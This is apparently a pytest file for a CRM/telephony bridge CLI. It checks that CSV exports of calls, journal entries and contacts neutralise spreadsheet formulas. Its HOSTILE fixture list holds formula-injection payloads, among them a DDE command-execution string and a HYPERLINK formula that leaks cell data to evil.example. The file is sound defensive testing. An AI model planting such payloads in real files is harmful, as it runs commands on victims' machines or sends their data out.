"""The CSV exports (contacts list, report --calls, journal): no cell is ever a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from bridge.cli import cli
from bridge.text import FORMULA_START
from consumers.analytics.calls import CALLS_SCHEMA
from consumers.store.core import open_database, open_sqlite

# what a caller (or a contact list) can put where we later export it
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '+HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "-2+3",
    "\t=1+1",  # tab- and CR-led: a consumer refuses these now, an older version stored them
    "\r=1+1",
]


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "config.toml").write_text("")
    return {"TCX_BRIDGE_DATA_DIR": str(tmp_path / "data"), "TCX_BRIDGE_CONFIG": str(tmp_path / "config.toml")}


def export(env: dict[str, str], *argv: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(cli, [*argv, "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_START), f"{cell!r} would be a formula"
    return rows


def test_report_calls_csv_neutralises_caller_ids(env: dict[str, str]) -> None:
    db = open_database(Path(env["TCX_BRIDGE_DATA_DIR"]) / "analytics.sqlite3", CALLS_SCHEMA)
    for n, caller in enumerate([*HOSTILE, "+41 44 123 45 67"]):
        db.execute(
            "INSERT INTO calls (desk, direction, call_id, caller_id, started_at, ended_at, answered) "
            "VALUES ('d1', 'inbound', ?, ?, '2026-11-02T09:00:00.000000Z', '2026-11-02T09:01:00.000000Z', 0)",
            (f"c{n}", caller),
        )
    db.close()
    rows = export(env, "report", "--calls")
    assert [row["caller_id"] for row in rows] == [
        "'=cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        '\'+HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "'-2+3",
        "\\x09=1+1",  # the control made visible: the cell begins with a backslash, no formula
        "\\x0d=1+1",
        "'+41 44 123 45 67",  # a phone number, kept as text
    ]
    assert rows[0]["started_at"] == "2026-11-02T09:00:00.000000Z"


def test_journal_csv_neutralises_caller_ids_and_contact_names(env: dict[str, str]) -> None:
    db = open_sqlite(Path(env["TCX_BRIDGE_DATA_DIR"]) / "crm.sqlite3", "crm")
    for n, hostile in enumerate(HOSTILE[:4]):
        db.execute(
            "INSERT INTO journal (call_key, desk, direction, call_id, number, number_e164, contact_name, "
            "answered, ended_at) VALUES (?, 'd1', 'inbound', ?, ?, '+41791234567', ?, 1, ?)",
            (n, f"-c{n}", hostile, hostile, f"2026-11-02T09:0{n}:00.000000Z"),
        )
    db.close()
    rows = export(env, "journal")
    assert [row["number"] for row in rows] == ["'" + value for value in HOSTILE[:4]]
    assert [row["contact_name"] for row in rows] == ["'" + value for value in HOSTILE[:4]]
    assert {row["number_e164"] for row in rows} == {"'+41791234567"}
    assert [row["call_id"] for row in rows] == ["'-c0", "'-c1", "'-c2", "'-c3"]


def test_contacts_list_csv_neutralises_and_reads_back_through_import(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "contacts.csv"
    with source.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name", "phone", "company"])
        for n, hostile in enumerate(HOSTILE[:4]):
            writer.writerow([hostile, f"+41 44 123 45 6{n}", hostile])
    runner = CliRunner()
    imported = runner.invoke(cli, ["contacts", "import", str(source)], env=env)
    assert imported.exit_code == 0, imported.output
    rows = export(env, "contacts", "list")
    assert sorted(row["name"] for row in rows) == sorted("'" + value for value in HOSTILE[:4])
    assert {row["company"] for row in rows} == {"'" + value for value in HOSTILE[:4]}
    assert sorted(row["phone"] for row in rows) == [f"'+41 44 123 45 6{n}" for n in range(4)]
    assert all(row["e164"].startswith("'+4144123456") for row in rows)

    backup = tmp_path / "backup.csv"
    backup.write_text(runner.invoke(cli, ["contacts", "list", "--format", "csv"], env=env).output)
    again = runner.invoke(cli, ["contacts", "import", "--replace", str(backup)], env=env)
    assert again.exit_code == 0, again.output
    assert export(env, "contacts", "list") == rows  # the backup restores the very same contacts
